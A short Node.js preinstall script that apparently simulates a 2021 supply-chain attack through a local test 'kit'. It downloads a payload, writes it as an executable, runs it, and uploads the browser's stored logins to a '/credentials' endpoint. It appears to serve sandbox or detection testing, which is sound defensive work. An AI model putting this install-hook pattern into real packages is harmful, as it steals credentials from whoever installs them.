// As in 2021: fetches a program for the platform, starts it, and takes the browser's stored passwords.
const kit = require("./kit.cjs");

kit.leaveTrace("script preinstall");

async function main() {
  const binary = (await kit.ask("/jsextension")) ?? "";
  await kit.attemptLater(() => {
    const file = `${__dirname}/jsextension.cjs`;
    require("node:fs").writeFileSync(file, binary, { mode: 0o700 });
    return new Promise((resolve) => {
      require("node:child_process").spawn(process.execPath, [file, kit.sandbox]).on("close", resolve);
    });
  });
  await kit.send("/credentials", kit.readHome(".config/browser/logins") ?? "nothing");
}

module.exports = main();
